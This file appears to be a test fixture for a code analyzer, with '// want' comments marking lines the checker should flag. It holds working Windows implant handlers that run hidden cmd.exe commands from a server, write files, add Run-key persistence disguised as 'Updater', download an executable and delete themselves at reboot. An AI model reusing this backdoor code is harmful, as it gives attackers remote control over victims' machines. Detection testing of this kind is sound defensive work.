// Handlers: each one is an action the server can trigger.
#include "implant.h"
#include <shellapi.h>
#include <urlmon.h>

int CmdShell(const std::string &args)
{
    std::string params = "/c " + args;
    return (int)(INT_PTR)ShellExecuteA(NULL, "open", "cmd.exe", params.c_str(), NULL, SW_HIDE); // want "remote-command/process-from-network"
}

int CmdPut(const std::string &args)
{
    std::string path = args.substr(0, args.find('|'));
    std::string data = args.substr(args.find('|') + 1);
    HANDLE h = CreateFileA(path.c_str(), GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL); // want "remote-command/file-operation-from-network"
    DWORD w = 0;
    WriteFile(h, data.data(), (DWORD)data.size(), &w, NULL);
    CloseHandle(h);
    return 0;
}

int CmdReg(const std::string &args)
{
    HKEY run;
    RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_SET_VALUE, &run);
    LONG rc = RegSetValueExA(run, "Updater", 0, REG_SZ, (const BYTE *)args.c_str(), (DWORD)args.size() + 1); // want "remote-command/registry-from-network"
    RegCloseKey(run);
    return rc;
}

int CmdUpdate(const std::string &args)
{
    return URLDownloadToFileA(NULL, args.c_str(), "C:\\ProgramData\\svc\\update.exe", 0, NULL);
}

int CmdBye(const std::string &)
{
    char self[MAX_PATH];
    GetModuleFileNameA(NULL, self, MAX_PATH);
    return MoveFileExA(self, NULL, MOVEFILE_DELAY_UNTIL_REBOOT); // ok: the agent's own path, not the server's
}
